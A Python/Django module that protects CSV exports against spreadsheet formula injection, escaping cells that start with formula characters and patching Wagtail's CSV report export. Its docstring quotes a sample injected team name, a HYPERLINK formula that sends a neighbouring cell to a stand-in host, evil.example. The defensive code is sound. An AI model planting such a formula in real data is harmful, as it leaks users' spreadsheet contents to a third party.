"""CSV files that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``,
``-`` or ``@`` (and some strip a leading tab or carriage return first) as a
formula, so a team named ``=HYPERLINK("http://evil.example/?leak="&B2)`` would
send the row next to it to another site. Every CSV Huddle writes goes through
``safe_row``; ``csv_response`` streams one as a download, and Wagtail's own
report exports (site history, aging pages...) are neutralised the same way.
"""

import csv
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

from django.http import StreamingHttpResponse
from django.utils.http import content_disposition_header

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number written as text ("-12.50") is read as a number, not run.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
_UNSAFE_FILENAME = re.compile(r"[^A-Za-z0-9._-]+")


def safe_cell(value: object) -> object:
    """The value as a spreadsheet should show it: formula-like text gets a leading ``'``.

    Numbers (and text that is only a number) stay numbers; ``None`` becomes an empty cell.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal | date | datetime):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]


def safe_filename(name: str) -> str:
    """A download name with only letters, digits, dots, dashes and underscores, ending in .csv."""
    stem = name.removesuffix(".csv")
    stem = _UNSAFE_FILENAME.sub("-", stem).strip(".-") or "export"
    return f"{stem[:120]}.csv"


class _Echo:
    """A file-like object whose ``write`` hands the line back, for streaming."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterable[str]:
    """The header and the rows as CSV text, one line at a time, every cell neutralised."""
    writer = csv.writer(_Echo())
    yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_response(header: Iterable[object], rows: Iterable[Iterable[object]], *, filename: str) -> StreamingHttpResponse:
    """Streams a CSV download; ``rows`` may be a generator, so large tables never sit in memory."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=safe_filename(filename))
    response["X-Content-Type-Options"] = "nosniff"
    return response


def neutralise_wagtail_exports() -> None:
    """Wagtail's report and listing exports write page titles and people's names to CSV as
    they are (only its XLSX files turn formulas back into text); pass every cell through
    ``safe_cell`` too. Called once from ``KnowledgeConfig.ready()``."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin.write_csv_row, "neutralised", False):
        return

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: safe_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    write_csv_row.neutralised = True
    SpreadsheetExportMixin.write_csv_row = write_csv_row
